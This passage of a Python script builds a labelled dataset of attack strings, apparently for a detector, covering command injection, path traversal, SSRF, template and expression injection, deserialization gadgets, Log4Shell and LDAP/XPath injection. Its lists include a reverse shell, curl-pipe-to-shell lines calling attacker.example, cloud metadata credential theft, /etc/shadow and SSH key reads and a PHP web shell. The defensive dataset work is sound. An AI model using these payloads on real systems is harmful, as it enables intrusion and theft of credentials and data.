        ("shellshock-user-agent-filter", "() { :; }; /bin/bash -c 'curl http://attacker.example/ss'"),
        ("plain-cmdi-semicolon-id", "; id"),
        ("plain-cmdi-pipe-passwd", "| cat /etc/passwd"),
        ("plain-cmdi-subshell", "$(whoami)"),
        ("plain-cmdi-backticks-uname", "`uname -a`"),
        ("plain-cmdi-reverse-shell", "; bash -c 'bash -i >& /dev/tcp/203.0.113.66/443 0>&1'"),
        ("plain-cmdi-sleep-blind", "x && sleep 10"),
        ("export-filename-i18n-semicolon", "Umsätze_März.csv; curl -s http://attacker.example/u | sh"),
        ("plain-cmdi-newline-id", "\nid\n"),
    ]
    wrappers = [
        ("grep-pattern", "%s"),
        ("rg-glob", "src/**/*.go%s"),
        ("host-filter", "web-0%d.internal" ),
        ("export-filename", "orders-%s.csv"),
    ]
    cmds = [("semicolon", "; curl -s http://%s/x | sh"), ("subshell", "$(wget -qO- http://%s/y)"),
            ("backticks", "`nslookup $(whoami).%s`"), ("and", " && curl http://%s/$(id -u)")]

    def gen():
        wn, w = pick(wrappers)
        cn, c = pick(cmds)
        c = c % pick(ATK)
        if wn == "host-filter":
            v = (w % RNG.randint(1, 9)) + c
        else:
            v = w % c
        return "%s-cmd-%s" % (wn, cn), v
    return take(lit, gen, 60)


# ====================================================================== traversal
def traversal():
    lit = [
        ("report-definition-export-filename-dotdot", '{"report": {"name": "Q1 revenue", "where": "total > 0", "export": {"format": "csv", "filename": "../../../../var/www/html/q1.php"}}}'),
        ("report-definition-template-path-dotdot", '{"report": {"name": "Monthly", "template": "../../../../../etc/passwd"}}'),
        ("saved-search-export-path-absolute-dotdot", "export=csv&filename=../../../../etc/cron.d/saved-search"),
        ("dashboard-import-path-dotdot", "dashboard=../../../../../../etc/shadow"),
        ("grafana-style-plugin-path-dotdot", "/public/plugins/text/../../../../../../../../etc/passwd"),
        ("kibana-style-locale-path-dotdot", "locale=../../../../../../proc/self/environ"),
        ("splunk-inputlookup-dotdot", "| inputlookup ../../../../../../etc/passwd"),
        ("splunk-outputlookup-dotdot-overwrite", "index=web | head 1 | eval line=\":admin:$6$x$y::Administrator:admin:x@attacker.example::\" | table line | outputlookup ../../../../../opt/splunk/etc/passwd"),
        ("cypher-load-csv-file-dotdot", "LOAD CSV FROM 'file:///../../../../etc/passwd' AS line RETURN line"),
        ("cypher-apoc-load-json-file", "CALL apoc.load.json('file:///var/lib/neo4j/conf/neo4j.conf') YIELD value RETURN value"),
        ("sparql-load-file-uri", "LOAD <file:///etc/passwd> INTO GRAPH <urn:x>"),
        ("solr-stream-file-param", "q=*:*&stream.file=/etc/passwd&stream.contentType=text/plain"),
        ("solr-config-resource-dotdot", "/solr/core1/admin/file?file=../../../../../../etc/passwd&contentType=text/plain"),
        ("es-snapshot-location-dotdot", '{"type": "fs", "settings": {"location": "../../../../../../etc"}}'),
        ("yaml-filter-include-tag-dotdot", "filters: !include ../../../../../etc/passwd"),
        ("jq-rawfile-arg-absolute", "--rawfile x /etc/shadow '$x'"),
        ("xpath-doc-file-read", "doc('file:///etc/passwd')"),
        ("xslt-document-file-read", "document('../../../../../../etc/hosts')"),
        ("mongo-export-out-file-dotdot", '{"out": "../../../../var/www/html/dump.json", "query": {"status": "paid"}}'),
        ("log-viewer-source-param-dotdot", "source=/var/log/nginx/../../../etc/shadow&query=|= \"error\""),
        ("glob-include-dotdot", "../../../../root/.ssh/*"),
        ("glob-include-absolute-secret", "/proc/self/environ"),
        ("fnmatch-root-dotdot-windows", "..\\..\\..\\..\\Windows\\win.ini"),
        ("kubectl-template-file-dotdot", "-o go-template-file=../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
        ("cel-policy-include-dotdot", "include: ../../../../etc/passwd\nexpr: request.auth != null"),
        ("rego-bundle-path-dotdot", "data_path=../../../../../root/.aws/credentials"),
        ("sieve-include-dotdot", 'require "include";\ninclude :personal "../../../../etc/dovecot/users";'),
        ("alert-rule-file-dotdot", "rule_files:\n  - ../../../../etc/shadow"),
        ("export-filename-dotdot+urlenc", "filename=" + q("../../../../etc/passwd")),
        ("export-filename-dotdot+double-urlenc", "filename=" + q(q("../../../../etc/passwd"))),
        ("export-filename-dotdot+nested-strip", "filename=....//....//....//....//etc/passwd"),
        ("export-filename-dotdot+nullbyte", "filename=../../../../etc/passwd%00.csv"),
        ("export-filename-dotdot+backslash-mixed", "filename=..\\../..\\../..\\../etc/passwd"),
        ("export-filename-dotdot+overlong-utf8", "filename=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        ("plain-traversal-etc-passwd", "../../../../../../etc/passwd"),
        ("plain-traversal-windows-ini", "..\\..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
        ("plain-traversal-proc-environ", "../../../../proc/self/environ"),
        ("plain-traversal-file-uri", "file:///etc/shadow"),
        ("export-filename-i18n-dotdot", "報告書/../../../../etc/passwd"),
        ("plain-traversal-dotdot+urlenc-slash", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ]
    ctx = [
        ("report-export-filename", '{"export": {"filename": "%s", "format": "xlsx"}}'),
        ("saved-search-import-file", "import=%s"),
        ("dashboard-template", "template=%s&title=Sales"),
        ("jsonpath-source-file", "source=%s&path=$.items[*]"),
        ("attachment-filter", "attachment:%s"),
    ]
    targets = [("etc-passwd", "etc/passwd"), ("ssh-key", "root/.ssh/id_rsa"), ("env-file", "var/www/app/.env"),
               ("k8s-token", "var/run/secrets/kubernetes.io/serviceaccount/token"), ("aws-creds", "home/app/.aws/credentials"),
               ("win-ini", "windows/win.ini")]

    def gen():
        cn, c = pick(ctx)
        tn, t = pick(targets)
        depth = RNG.randint(3, 9)
        if tn == "win-ini":
            path = "..\\" * depth + t.replace("/", "\\")
            if "\"" in c:  # JSON string: escape the backslashes once
                path = path.replace("\\", "\\\\")
        else:
            path = "../" * depth + t
        return "%s-dotdot-%s" % (cn, tn), c % path
    return take(lit, gen, 45)


# ====================================================================== ssrf
def ssrf():
    lit = [
        ("sparql-service-federation-metadata", "SELECT * WHERE { SERVICE <http://169.254.169.254/latest/meta-data/iam/security-credentials/> { ?s ?p ?o } }"),
        ("sparql-load-internal-url", "LOAD <http://10.0.0.15:8080/admin/export> INTO GRAPH <urn:tmp>"),
        ("sparql-from-named-internal", "SELECT ?s FROM <http://127.0.0.1:9200/_cat/indices?v> WHERE { ?s ?p ?o }"),
        ("cypher-load-csv-metadata", "LOAD CSV FROM 'http://169.254.169.254/latest/user-data' AS row RETURN row"),
        ("cypher-apoc-load-json-internal", "CALL apoc.load.json('http://127.0.0.1:2375/containers/json') YIELD value RETURN value"),
        ("cypher-apoc-load-xml-gcp-metadata", "CALL apoc.load.xml('http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token') YIELD value RETURN value"),
        ("kusto-externaldata-metadata", "externaldata(x:string) [h@\"http://169.254.169.254/metadata/instance?api-version=2021-02-01\"] with (format=\"txt\")"),
        ("flux-csv-from-url-internal", "import \"experimental/csv\"\ncsv.from(url: \"http://127.0.0.1:8500/v1/kv/?recurse\")"),
        ("flux-http-get-metadata", "import \"experimental/http\"\nhttp.get(url: \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\")"),
        ("flux-sql-from-internal-db", "import \"sql\"\nsql.from(driverName: \"postgres\", dataSourceName: \"postgresql://postgres@10.0.3.4:5432/postgres?sslmode=disable\", query: \"SELECT * FROM pg_user\")"),
        ("es-reindex-remote-internal", '{"source": {"remote": {"host": "http://10.0.2.7:9200"}, "index": "users"}, "dest": {"index": "leak"}}'),
        ("solr-shards-param-internal", "q=*:*&shards=127.0.0.1:8983/solr/admin/cores?action=STATUS&wt=json#"),
        ("solr-stream-url-metadata", "q=*:*&stream.url=http://169.254.169.254/latest/meta-data/"),
        ("solr-dataimport-url-internal", "command=full-import&dataConfig=<dataConfig><dataSource type=\"URLDataSource\"/><document><entity name=\"x\" url=\"http://127.0.0.1:8500/v1/agent/self\" processor=\"PlainTextEntityProcessor\"/></document></dataConfig>"),
        ("sheets-importxml-metadata", "=IMPORTXML(\"http://169.254.169.254/latest/meta-data/\", \"//*\")"),
        ("sheets-importdata-internal", "=IMPORTDATA(\"http://10.0.0.5:9090/api/v1/targets\")"),
        ("graphql-import-url-internal", "mutation { importSavedSearches(url: \"http://127.0.0.1:6443/api/v1/namespaces/kube-system/secrets\") { count } }"),
        ("prometheus-remote-read-url-internal", "remote_read:\n  - url: http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("promql-datasource-url-metadata", '{"name": "prom-eu", "type": "prometheus", "url": "http://169.254.169.254/latest/api/token", "access": "proxy"}'),
        ("alert-webhook-url-internal-admin", "receivers:\n- name: ops\n  webhook_configs:\n  - url: http://127.0.0.1:9093/api/v2/silences"),
        ("grafana-like-datasource-proxy-internal", "/api/datasources/proxy/1/../../../../api/admin/users"),
        ("jsonschema-ref-internal", '{"$ref": "http://10.1.0.8:8080/actuator/env"}'),
        ("xpath-doc-url-internal", "doc('http://127.0.0.1:8080/manager/html')"),
        ("rego-http-send-metadata", "x := http.send({\"method\": \"GET\", \"url\": \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"})"),
        ("jsonpath-remote-source-internal", "source=http://192.168.1.1/cgi-bin/config.exp&path=$..password"),
        ("saved-search-import-gopher-redis", "import=gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
        ("report-image-url-metadata", '{"report": {"logo": "http://169.254.169.254/latest/meta-data/iam/info", "where": "1=1"}}'),
        ("dashboard-iframe-panel-server-render", '{"type": "text", "mode": "html", "content": "<iframe src=\\"http://169.254.169.254/latest/user-data\\"></iframe>"}'),
        ("clickhouse-url-table-function-metadata", "SELECT * FROM url('http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'LineAsString')"),
        ("metadata-alibaba-filter-url", "feed=http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("metadata-azure-webhook", "url=http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
        ("metadata-aws+decimal-ip", "url=http://2852039166/latest/meta-data/"),
        ("metadata-aws+hex-ip", "source=http://0xa9fea9fe/latest/meta-data/iam/security-credentials/"),
        ("metadata-aws+ipv6-mapped", "webhook=http://[::ffff:169.254.169.254]/latest/user-data"),
        ("loopback+short-form", "url=http://127.1:8080/admin"),
        ("loopback+zero", "url=http://0:6379/"),
        ("import-url-metadata+urlenc", "import=" + q("http://169.254.169.254/latest/meta-data/")),
        ("plain-ssrf-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("plain-ssrf-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/project/project-id"),
        ("plain-ssrf-localhost-admin", "http://localhost:8080/actuator/env"),
        ("plain-ssrf-file-scheme", "file:///etc/passwd"),
        ("plain-ssrf-loopback+decimal-ip", "http://2130706433:8080/admin"),
    ]
    hosts = [("metadata-aws", MD + "/latest/meta-data/"), ("k8s-api", "10.96.0.1:443/api/v1/secrets"),
             ("docker-api", "127.0.0.1:2375/containers/json"), ("consul", "127.0.0.1:8500/v1/kv/?recurse"),
             ("rfc1918-admin", "192.168.0.10/admin")]

    def gen():
        hn, h = pick(hosts)
        kind = RNG.randint(0, 2)
        if kind == 0:
            return "cypher-load-csv-%s" % hn, "LOAD CSV FROM 'http://%s' AS r RETURN r LIMIT %d" % (h, RNG.randint(1, 50))
        if kind == 1:
            return "sparql-service-%s" % hn, "SELECT ?o WHERE { SERVICE <http://%s> { ?s ?p ?o } } LIMIT %d" % (h, RNG.randint(1, 50))
        return "webhook-url-%s" % hn, '{"alert": "cpu-%d", "webhook": "http://%s"}' % (RNG.randint(1, 99), h)
    return take(lit, gen, 45)


# ====================================================================== code
def code():
    lit = [
        ("jsonpath-filter-js-eval", "$..[?(@.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString())]"),
        ("jsonpath-filter-js-eval-fetch", "$.items[?(this.constructor.constructor('return fetch(\"http://attacker.example/\"+process.env.DB_PASSWORD)')())]"),
        ("jsonpath-script-expression-eval", "$.store.book[(require('child_process').execSync('touch /tmp/jp'))]"),
        ("spel-filter-runtime-exec", "#{T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.66/s -o /tmp/s')}"),
        ("spel-query-param-process-builder", "name == new java.lang.ProcessBuilder({'sh','-c','id > /tmp/spel'}).start()"),
        ("spel-gateway-predicate-exec", "#{new java.lang.String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{'id'}).getInputStream()))}"),
        ("spel-sort-expression-exec", "sort=T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/sort\")"),
        ("ognl-filter-expression-exec", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}"),
        ("ognl-search-param-exec", "${@java.lang.Runtime@getRuntime().exec(\"wget -qO- http://attacker.example/o\")}"),
        ("mvel-drools-rule-exec", "rule \"x\" when eval(true) then Runtime.getRuntime().exec(\"curl http://attacker.example/d\"); end"),
        ("jexl-rule-expression-exec", "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')"),
        ("java-el-filter-exec", "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
        ("groovy-saved-filter-script", "issue.summary.contains('x') || 'curl http://attacker.example/j'.execute().text"),
        ("groovy-alert-rule-condition", "def p = ['sh', '-c', 'id > /tmp/g'].execute(); p.waitFor(); return true"),
        ("es-script-fields-groovy-legacy", '{"size": 1, "script_fields": {"x": {"script": "java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\").getText()"}}}'),
        ("es-script-fields-mvel-legacy", '{"script_fields": {"x": {"script": "import java.io.*; new java.util.Scanner(Runtime.getRuntime().exec(\\"id\\").getInputStream()).useDelimiter(\\"\\\\\\\\A\\").next();"}}}'),
        ("timelion-expression-prototype-pollution-rce", ".es(index=logs-*).props(label.__proto__.env.X='require(\"child_process\").exec(\"curl http://attacker.example/t\");//', label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')"),
        ("cel-like-js-eval-rule", "request.auth.claims.email.endsWith('@acme.example') || require('child_process').execSync('id')"),
        ("json-logic-custom-op-eval", '{"eval": ["require(\'child_process\').execSync(\'id\').toString()"]}'),
        ("feature-flag-rule-node-vm-escape", "user.country == 'IE' && this.constructor.constructor('return process')().mainModule.require('child_process').execSync('curl http://attacker.example/f')"),
        ("ejs-report-template-ssti", "<%= process.mainModule.require('child_process').execSync('whoami') %>"),
        ("python-eval-filter-import-os", "__import__('os').popen('id').read()"),
        ("python-eval-filter-builtins-escape", "().__class__.__base__.__subclasses__()[140].__init__.__globals__['system']('id')"),
        ("pandas-query-engine-python-escape", "@pd.io.common.os.system('id')"),
        ("ruby-instance-eval-filter", "status == 'open' || `curl http://attacker.example/r`"),
        ("jinja2-report-title-ssti", "Q3 report {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("jinja2-alert-annotation-ssti", "summary: \"{{ lipsum.__globals__['os'].popen('curl http://attacker.example/a').read() }}\""),
        ("jinja2-saved-search-name-ssti-config", "{{ config.items() }}"),
        ("twig-dashboard-title-ssti", "{{['id']|filter('system')}}"),
        ("freemarker-report-template-ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("velocity-report-template-ssti", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
        ("pug-report-footer-ssti", "#{global.process.mainModule.require('child_process').execSync('id').toString()}"),
        ("erb-report-footer-ssti", "<%= `id` %>"),
        ("smarty-dashboard-ssti", "{system('id')}"),
        ("mako-report-title-ssti", "Weekly ${__import__('os').popen('curl http://attacker.example/mk').read()}"),
        ("yaml-saved-filter-python-apply", "filter: !!python/object/apply:os.system ['curl http://attacker.example/y | sh']"),
        ("yaml-rule-snakeyaml-script-engine", "rule: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/p.jar\"]]]]"),
        ("json-filter-dotnet-type-gadget", '{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start", "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}, "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c calc"]}}'),
        ("json-filter-fastjson-autotype-jndi", '{"filter": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://attacker.example:1389/x", "autoCommit": true}}'),
        ("json-filter-jackson-polymorphic-jndi", '["com.zaxxer.hikari.HikariConfig", {"metricRegistry": "ldap://203.0.113.66:1389/a"}]'),
        ("node-serialize-saved-view-iife", '{"view": "_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
        ("php-unserialize-saved-search-cookie", 'O:8:"Exporter":1:{s:4:"file";%s}' % php_s("/var/www/html/uploads/sh.php")),
        ("log4shell-search-query", "status:open AND title:\"${jndi:ldap://attacker.example:1389/q}\""),
        ("log4shell-jql-text", "text ~ \"${jndi:rmi://203.0.113.66:1099/j}\""),
        ("log4shell-nested-lookup+obfuscated", "${${lower:j}${lower:n}d${lower:i}:ldap://198.51.100.23/l}"),
        ("xxe-xpath-input-document", "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><query><title>&x;</title></query>"),
        ("xxe-sparql-results-upload", "<?xml version=\"1.0\"?><!DOCTYPE sparql [<!ENTITY % r SYSTEM \"http://attacker.example/e.dtd\"> %r;]><sparql xmlns=\"http://www.w3.org/2005/sparql-results#\"/>"),
        ("prototype-pollution-filter-json", '{"filter": {"__proto__": {"isAdmin": true}}}'),
        ("prototype-pollution-query-param", "filter[__proto__][isAdmin]=true&filter[status]=open"),
        ("prototype-pollution-constructor-prototype", '{"where": {"constructor": {"prototype": {"role": "admin"}}}}'),
        ("csv-export-formula-dde", "=cmd|' /C powershell -c iwr http://attacker.example/x|iex'!A0"),
        ("csv-export-formula-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"Open\")"),
        ("sheets-rule-formula-webservice", "=WEBSERVICE(\"http://attacker.example/?\"&ENCODEURL(C2))"),
        ("plain-code-ssti-jinja-exec", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("plain-code-spel-exec", "T(java.lang.Runtime).getRuntime().exec('id')"),
        ("plain-code-log4shell", "${jndi:ldap://attacker.example/a}"),
        ("plain-code-node-require-exec", "require('child_process').execSync('cat /etc/passwd')"),
        ("plain-code-php-system", "<?php system($_GET['c']); ?>"),
        ("plain-code-python-eval-import", "__import__('subprocess').check_output(['id'])"),
    ]

    def gen():
        cmd = pick(["id", "whoami", "uname -a", "curl http://%s/c" % pick(ATK), "cat /etc/passwd"])
        kind = RNG.randint(0, 1)
        if kind == 0:
            return "spel-filter-runtime-exec", "#{T(java.lang.Runtime).getRuntime().exec('%s')}" % cmd
        return "jinja2-report-title-ssti", "%s {{ cycler.__init__.__globals__.os.popen('%s').read() }}" % (
            pick(["Weekly", "Monatsbericht", "EU orders"]), cmd)
    return take(lit, gen, 60)


# ====================================================================== ldap-xpath
def ldap_xpath():
    lit = [
        ("ldap-filter-wildcard-close-or", "*)(uid=*))(|(uid=*"),
        ("ldap-filter-auth-bypass-and-true", "admin)(&)"),
        ("ldap-filter-auth-bypass-objectclass", "admin)(|(objectClass=*)"),
        ("ldap-filter-blind-password-prefix", "jdoe)(userPassword=a*"),
        ("ldap-filter-blind-attribute-probe", "*)(mail=*@acme-outfitters.com)(|(cn=*"),
        ("ldap-filter-group-membership-bypass", "x)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=acme,dc=internal))(|(cn=x"),
        ("scim-filter-to-ldap-breakout", "userName eq \"*)(uid=*))(|(uid=*\""),
        ("scim-filter-to-ldap-wildcard", "emails.value co \"*)(objectClass=*\""),
        ("people-search-ldap-or-injection", "Anna*)(|(telephoneNumber=*)(homePhone=*"),
        ("ldap-filter-null-close+urlenc", q("*)(uid=*))(|(uid=*")),
        ("ldap-filter-sam-bypass", "*)(sAMAccountName=*))(|(sAMAccountName=*"),
        ("ldap-filter-description-leak", "x*)(|(description=*pass*)"),
        ("xpath-selector-string-tautology", "' or '1'='1"),
        ("xpath-login-tautology-double-quote", "\" or \"\"=\""),
        ("xpath-selector-union-dump", "'] | //user/* | //*['"),
        ("xpath-selector-blind-name-length", "' or string-length(name(/*[1]))=5 or '"),
        ("xpath-selector-blind-substring", "x' or substring(//user[1]/password,1,1)='a' or 'a'='b"),
        ("xpath-selector-count-probe", "' or count(/*/*)>3 or '"),
        ("xpath-selector-predicate-breakout-union", "x' or 1=1] | //user/password | //book[author='"),
        ("xpath-search-box-paren-breakout-true", "') or true() or ('"),
        ("xpath-numeric-predicate-or", "1 or 1=1"),
        ("xpath-doc-exfil-concat", "x' or doc(concat('http://attacker.example/?d=',//user[1]/password))='1"),
        ("xpath-unparsed-text-read", "' or unparsed-text('/etc/passwd') != '' or '"),
        ("xquery-search-breakout", "x\"] return //user/password (: "),
        ("plain-ldap-wildcard-admin", "*)(cn=admin"),
        ("plain-xpath-or-true", "' or true() or '"),
        ("ldap-filter-i18n-wildcard", "Müller*)(|(userPassword=*"),
        ("plain-ldap-admin-password-any", "admin)(|(userPassword=*)"),
    ]
    users = ["admin", "jdoe", "ktanaka", "svc-backup", "root"]

    def gen():
        u = pick(users)
        if RNG.random() < 0.5:
            return "ldap-filter-blind-password-prefix", "%s)(userPassword=%s*" % (u, "".join(pick("abcdef0123456789") for _ in range(RNG.randint(1, 3))))
        return "xpath-selector-blind-substring", "%s' or substring(//user[name='%s']/password,%d,1)='%s' or 'a'='b" % (
            u, u, RNG.randint(1, 12), pick("abcdef0123456789"))
    return take(lit, gen, 30)


CATEGORIES = [
    ("sqli", sqli),
    ("nosqli", nosqli),
    ("xss", xss),
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("ssrf", ssrf),
    ("code", code),
    ("ldap-xpath", ldap_xpath),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha20-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    for cat, _ in CATEGORIES:
        print("%-10s %d" % (cat, counts[cat]))
    print("%-10s %d" % ("total", len(rows)))


if __name__ == "__main__":
    main()
